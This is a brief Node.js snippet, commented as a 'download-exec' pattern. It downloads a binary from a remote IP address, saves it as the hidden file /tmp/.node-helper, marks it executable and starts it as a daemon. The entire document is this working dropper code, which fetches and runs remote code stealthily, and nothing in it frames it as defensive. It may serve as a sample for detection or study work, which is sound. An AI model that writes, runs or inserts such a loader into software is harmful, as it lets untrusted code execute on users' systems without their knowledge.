// download-exec: a binary is downloaded, made executable and started
const fs = require('fs');
const https = require('https');
const { execFile } = require('child_process');
const dest = '/tmp/.node-helper';
https.get('https://203.0.113.7/bin/helper', (res) => {
  res.pipe(fs.createWriteStream(dest)).on('finish', () => {
    fs.chmodSync(dest, 0o755);
    execFile(dest, ['--daemon']);
  });
});
